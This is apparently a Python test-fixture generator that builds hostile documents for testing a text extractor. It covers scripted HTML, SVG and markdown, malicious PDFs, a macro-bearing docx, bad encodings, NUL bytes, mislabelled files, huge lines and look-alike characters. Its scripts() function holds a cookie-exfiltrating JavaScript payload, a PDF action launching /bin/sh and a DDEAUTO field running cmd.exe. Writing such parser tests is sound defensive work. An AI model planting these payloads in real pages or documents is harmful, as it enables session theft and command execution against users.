"""Hostile files by what stands in them: scripts, locks, encodings, controls, false names, long lines, look-alikes."""

# ruff: noqa: E501 - documents stand on their lines as they are

from __future__ import annotations

import base64
from collections.abc import Iterator

from hostile_makers import (
    GOOD_DOCX,
    GOOD_PDF,
    RNG,
    SHOWN,
    TEXT,
    TYPES,
    File,
    docx,
    page,
    paragraph,
    pdf,
    zipped,
)


def scripts() -> Iterator[File]:
    """Programs in documents: nothing of them is run, and nothing of them is read as text."""
    evil = "document.location='http://127.0.0.1:9/'+document.cookie"
    yield (
        "good-scripts-html.html",
        f'<html><body><script>{evil}</script><p onclick="{evil}">{TEXT}</p><iframe src=javascript:{evil}></iframe></body></html>'.encode(),
    )
    yield (
        "good-scripts-svg.html",
        f'<html><body><svg onload="{evil}"><script>{evil}</script></svg><p>{TEXT}</p></body></html>'.encode(),
    )
    yield "scripts-only.html", f"<html><body><script>{evil}</script></body></html>".encode()
    yield "good-scripts-markdown.md", f"<script>{evil}</script>\n\n[x](javascript:{evil})\n\n{TEXT}".encode()
    action = page(SHOWN)
    action[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    yield "good-scripts-pdf.pdf", pdf(action)
    launch = page(SHOWN)
    launch[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>"
    yield "good-scripts-launch.pdf", pdf(launch)
    yield (
        "good-scripts-macro.docx",
        docx(paragraph(TEXT) * 2, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Shell" * 50}),
    )
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield "good-scripts-dde.docx", docx(paragraph(TEXT) * 2 + field)
    yield "good-scripts-terminal.txt", (TEXT + "\x1b]0;title\x07 \x1b[2J \x1b]8;;http://x\x07link\x1b]8;;\x07 " + TEXT).encode()


def encrypted() -> Iterator[File]:
    """Locked documents."""
    locked = bytearray(GOOD_DOCX)
    at = -1
    while (at := locked.find(b"PK\x03\x04", at + 1)) >= 0:
        locked[at + 6] |= 1
    at = -1
    while (at := locked.find(b"PK\x01\x02", at + 1)) >= 0:
        locked[at + 8] |= 1
    yield "encrypted-zip.docx", bytes(locked)
    yield "encrypted-ole.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + RNG.randbytes(4000)
    for version, revision, length in ((1, 2, 40), (2, 3, 128), (5, 6, 256), (9, 9, 999)):
        handler = b"<< /Filter /Standard /V %d /R %d /Length %d /O <%s> /U <%s> /P -4 >>" % (
            version,
            revision,
            length,
            b"00" * 32,
            b"11" * 32,
        )
        yield f"encrypted-{version}.pdf", pdf([*page(SHOWN), handler], extra=b"/Encrypt 6 0 R /ID [<00> <00>] ")
    yield "encrypted-unknown.pdf", pdf([*page(SHOWN), b"<< /Filter /Own >>"], extra=b"/Encrypt 6 0 R ")
    yield (
        "any-encrypted-pgp.txt",
        b"-----BEGIN PGP MESSAGE-----\n\n" + base64.encodebytes(RNG.randbytes(3000)) + b"-----END PGP MESSAGE-----\n",
    )
    yield "encrypted-random.txt", RNG.randbytes(5000)


def encodings() -> Iterator[File]:
    """Characters in other encodings, several in one file, and signs that mark them."""
    accents = TEXT + "“Côte d’Ivoire” – Štěpán – Türkiye\n"
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "iso8859-2", "utf-7"):
        yield f"any-encodings-{name}.txt", accents.encode(name, "ignore") * 3
    yield "any-encodings-cp037.txt", TEXT.encode("cp037")
    yield "encodings-mixed.txt", accents.encode() + accents.encode("cp1252", "ignore") + accents.encode("cp1250", "ignore")
    yield "encodings-overlong.txt", TEXT.encode() + b"\xc0\xaf\xe0\x80\xaf" + TEXT.encode()
    yield "encodings-surrogate.txt", TEXT.encode() + b"\xed\xa0\x80" + TEXT.encode()
    yield "encodings-beyond.txt", TEXT.encode() + b"\xf4\x90\x80\x80" + TEXT.encode()
    yield "good-encodings-meta.html", f'<html><head><meta charset="x-no-such"></head><body><p>{TEXT}</p></body></html>'.encode()
    yield (
        "any-encodings-header.eml",
        b"From: a@b.c\r\nSubject: =?x-no?b?!!!?=\r\nContent-Type: text/plain; charset=x-no\r\n\r\n" + TEXT.encode(),
    )


def nuls() -> Iterator[File]:
    """NUL bytes, byte-order marks and other controls."""
    text = TEXT.encode()
    yield "nuls-in-text.txt", text + b"\0" + text
    yield "nuls-in-markdown.md", text + b"\0" * 10 + text
    yield "any-nuls-in-page.html", b"<html><body><p>" + text + b"\0" + text + b"</p></body></html>"
    yield "nuls-only.txt", b"\0" * 100_000
    yield "nuls-bom-only.txt", b"\xef\xbb\xbf"
    yield "nuls-bom-16-only.txt", b"\xff\xfe"
    yield "good-nuls-bom.txt", b"\xef\xbb\xbf" + text
    yield "good-nuls-boms-within.txt", text + b"\xef\xbb\xbf" * 50 + text
    yield "nuls-controls.txt", bytes(range(1, 32)) * 50 + text
    yield "nuls-empty.txt", b""
    yield "nuls-empty.pdf", b""
    yield "nuls-empty.docx", b""
    yield "nuls-spaces.html", b" \n" * 1000


def declared() -> Iterator[File]:
    """Files that are not what their names say."""
    yield "good-declared-text.pdf", TEXT.encode()
    yield "good-declared-text.docx", TEXT.encode()
    yield "good-declared-pdf.txt", GOOD_PDF
    yield "good-declared-docx.html", GOOD_DOCX
    yield "declared-elf.txt", b"\x7fELF\x02\x01\x01" + b"\0" * 200
    yield "declared-gzip.txt", b"\x1f\x8b\x08\x00" + RNG.randbytes(300)
    yield "declared-zip.docx", zipped({"a.txt": TEXT.encode()})
    yield "declared-xlsx.docx", zipped({"[Content_Types].xml": TYPES.encode(), "xl/workbook.xml": b"<x/>"})
    yield "declared-rtf.docx", b"{\\rtf1 " + TEXT.encode() + b"}"
    yield "declared-sqlite.txt", b"SQLite format 3\0" + b"\0" * 100
    yield "declared-tar.txt", b"a.txt" + b"\0" * 252 + b"ustar\0" + b"\0" * 249
    yield "any-declared-polyglot.pdf", TEXT.encode()[:500] + b"\n" + GOOD_PDF


def lines() -> Iterator[File]:
    """Lines, words, tags and headers of ten million characters, and texts that are mostly one thing."""
    ten, two = 10_000_000, 2_000_000  # ten once of words and once without a space; two keeps the tests short
    yield "any-lines-one-word.txt", TEXT.encode() + b"a" * ten
    yield "any-lines-one-line.txt", (TEXT.replace("\n", " ") * (ten // len(TEXT))).encode()
    yield "any-lines-spaces.txt", TEXT.encode() + b" " * two + TEXT.encode()
    yield "any-lines-newlines.txt", TEXT.encode() + b"\n" * two + TEXT.encode()
    yield "any-lines-digits.txt", TEXT.encode() + b"1" * two
    yield "any-lines-quotes.txt", TEXT.encode() + b'" ' * 20_000
    yield "any-lines-brackets.md", TEXT.encode() + b"[a](" * 40_000
    yield "any-lines-stars.md", TEXT.encode() + b"*a " * 20_000
    yield "any-lines-tag.html", b"<html><body><p>" + TEXT.encode() + b"</p><p " + b"a " * (two // 2)
    yield "any-lines-comment.html", b"<!--" * 100_000 + b"<html><body><p>" + TEXT.encode()
    yield "any-lines-header.eml", b"From: a@b.c\r\nSubject: " + b"a" * ten + b"\r\n\r\n" + TEXT.encode()
    yield "any-lines-folded.eml", b"From: a@b.c\r\nTo: " + b"a@b.c,\r\n " * 300_000 + b"\r\n\r\n" + TEXT.encode()
    yield "any-lines-dates.txt", (TEXT + "on Friday 3 May last week " * 2000).encode()
    yield "any-lines-names.txt", (TEXT + "Russia and China and " * 2000).encode()
    yield "any-lines-combining.txt", (TEXT + "a" + "\u0301" * 200_000).encode()
    yield "lines-too-large.txt", b"a b\n" * 13_000_000


def lookalikes() -> Iterator[File]:
    """Homoglyphs, bidirectional overrides, invisible signs: read, but never taken for the names they look like."""
    cyrillic = TEXT.translate(str.maketrans("aeopcx", "аеорсх"))
    yield "any-lookalikes-homoglyphs.txt", (TEXT + cyrillic).encode()
    yield "good-lookalikes-override.txt", (TEXT + "\u202evetoed Russia\u202c " + TEXT).encode()
    yield "good-lookalikes-isolates.txt", (TEXT + "\u2066\u2067\u2068" * 200 + TEXT).encode()
    yield "good-lookalikes-zero-width.txt", (TEXT + "Rus\u200bsia Ch\u200dina \u2060 \u00ad " + TEXT).encode()
    yield "good-lookalikes-tags.txt", (TEXT + "".join(chr(0xE0000 + ord(c)) for c in "veto") + TEXT).encode()
    wide = "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in "Russia vetoed")
    yield "good-lookalikes-full-width.txt", (TEXT + wide + TEXT).encode()
    yield "good-lookalikes-maths.txt", (TEXT + "𝐑𝐮𝐬𝐬𝐢𝐚 𝓿𝓮𝓽𝓸𝓮𝓭 " + TEXT).encode()
    yield "good-lookalikes-private.txt", (TEXT + "\ue000\uf8ff\U0010fffd " + TEXT).encode()
    yield "good-lookalikes-separators.txt", TEXT.replace(". ", ".\u2028").replace("\n", "\u2029").encode() * 2
    yield "good-lookalikes-returns.txt", TEXT.replace(". ", ".\r").replace("\n", "\x0b\x0c").encode() * 2
